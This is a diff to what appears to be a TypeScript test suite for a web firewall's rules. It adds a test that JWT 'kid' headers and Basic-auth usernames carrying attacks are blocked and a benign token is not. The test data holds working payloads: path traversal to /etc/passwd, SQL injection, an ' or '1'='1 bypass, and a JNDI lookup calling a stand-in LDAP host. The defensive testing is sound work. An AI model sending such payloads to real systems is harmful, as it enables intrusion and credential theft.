@@ -19,6 +19,7 @@ const form = { 'content-type': 'application/x-www-form-urlencoded' };
 const ways: Readonly<Record<string, (text: string) => ExchangeCase>> = {
   query: (text) => ({ target: `/?q=${percent(text)}` }),
   form: (text) => ({ headers: form, body: `a=1&q=${percent(text)}` }),
+  password: (text) => ({ headers: { authorization: `Basic ${Buffer.from(`user:${text}`).toString('base64')}` } }),
   JSON: (text) => ({ headers: { 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify({ q: text })) }),
 };
 
@@ -49,6 +50,20 @@ describe('the starter pack on what people write and what attackers send', () => 
   afterAll(() => closePlan(plan));
 
   const wasBlocked = ({ matches }: InspectionSummary): boolean => matches.some(({ ruleId }) => ruleId >= 1_900_000);
+
+  it('finds attacks in the head of a token and in the name of a user', () => {
+    const token = (head: object): string =>
+      `Bearer ${Buffer.from(JSON.stringify(head)).toString('base64url')}.e30.c2ln`;
+    const found = [
+      token({ alg: 'HS256', kid: '../../../../etc/passwd' }),
+      token({ alg: 'HS256', kid: "x' union select 'key' from users-- -" }),
+      token({ alg: 'HS256', kid: '\x24{jndi:ldap://e.example/a}' }),
+      `Basic ${Buffer.from("' or '1'='1:x").toString('base64')}`,
+    ].map((authorization) => wasBlocked(runExchange(plan, { headers: { authorization } })));
+    expect(found).toStrictEqual(found.map(() => true));
+    const authorization = token({ alg: 'RS256', kid: '2024-05-01/key_1', typ: 'at+jwt', x5t: 'Zm9v-_8' });
+    expect(wasBlocked(runExchange(plan, { headers: { authorization } }))).toBe(false);
+  });
 
   for (const [kind, texts] of Object.entries(values.attacks)) {
     it(`finds ${kind}`, () => {
